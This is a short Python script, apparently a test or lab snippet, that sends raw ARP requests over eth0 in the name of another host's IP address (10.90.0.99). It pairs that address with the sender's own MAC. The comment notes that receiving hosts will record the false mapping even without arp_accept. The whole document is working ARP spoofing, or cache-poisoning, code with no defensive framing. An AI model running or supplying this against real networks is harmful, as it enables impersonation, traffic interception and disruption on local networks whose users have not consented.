# An ARP request in the name of 10.90.0.99, which the host would note (arp_accept is not needed for who is asked).
import socket, struct

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mac = s.getsockname()[4]
other = socket.inet_aton("10.90.0.99")
gateway = socket.inet_aton("169.254.1.1")
for _ in range(5):
    s.send(b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + mac + other + b"\0" * 6 + gateway)
